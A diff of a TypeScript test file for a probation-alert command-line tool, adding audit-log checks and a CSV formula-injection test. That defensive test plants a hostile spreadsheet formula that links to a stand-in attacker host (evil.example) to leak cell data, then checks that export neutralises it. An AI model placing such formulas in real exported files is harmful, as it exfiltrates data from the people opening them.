@@ -6,6 +6,17 @@ import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
 import { BIN, probity } from '../../test/cli.ts';
 import { copyDataset, readLines, VALID_FIXTURE, writeLines } from '../../test/dataset-helpers.ts';
+import { openPglite } from '../db/index.ts';
+
+/** Runs SQL on the embedded database of a data folder, between commands. */
+async function sql<T>(dataDir: string, text: string): Promise<T[]> {
+  const db = await openPglite(path.join(dataDir, 'pglite'));
+  try {
+    return (await db.query<T & Record<string, unknown>>(text)).rows;
+  } finally {
+    await db.close();
+  }
+}
 
 describe('probity CLI', () => {
   it('explains itself and each command', async () => {
@@ -93,6 +104,13 @@ describe('probity user', () => {
     expect((await probity(['user', 'disable', 'sec.one'], env)).code).toBe(0);
     const list = await probity(['user', 'list'], env);
     expect(list.stdout).toMatch(/^sec\.one\s+Sec One\s+probation_manager\s+XPR\s+disabled\s+never$/m);
+    // Looking at the accounts is recorded, as on the web.
+    expect(
+      await sql(
+        env.PROBITY_DATA_DIR,
+        `SELECT actor, details->>'results' AS n FROM audit_log WHERE action = 'users.list'`,
+      ),
+    ).toEqual([{ actor: expect.stringMatching(/^cli:/), n: '1' }]);
     expect((await probity(['user', 'enable', 'nobody'], env)).stderr).toContain('no user is called "nobody"');
 
     const audit = await probity(['audit', 'verify'], env);
@@ -123,6 +141,19 @@ describe('probity detect, alerts and evaluate', () => {
       (await probity(['alerts', '--format', 'json', '--limit', '1', '--baseline'], env)).stdout,
     );
     expect(json).toHaveLength(1);
+    // Every listing is recorded: who looked at whom is suspected.
+    const listings = await sql<{ format: string }>(
+      env.PROBITY_DATA_DIR,
+      `SELECT details->>'format' AS format FROM audit_log WHERE action = 'alerts.list' ORDER BY id`,
+    );
+    expect(listings.map((l) => l.format)).toEqual(['csv', 'csv', 'json']);
+    // Imported text reaches the CSV as text, never as a spreadsheet formula.
+    await sql(
+      env.PROBITY_DATA_DIR,
+      `UPDATE alerts SET summary = '=HYPERLINK("http://evil.example/?"&A1,"Open")', subject = '@SUM(1+1)'`,
+    );
+    const hostile = (await probity(['alerts', '--format', 'csv', '--limit', '1'], env)).stdout;
+    expect(hostile).toMatch(/^1,AL-\d+,XAA,S1001,"'@SUM\(1\+1\)",[\d.]+,\w+,[^,]*,"'=HYPERLINK\(""http/m);
     expect((await probity(['alerts', '--format', 'xml'], env)).stderr).toContain(
       '--format: expected table, csv or json',
     );
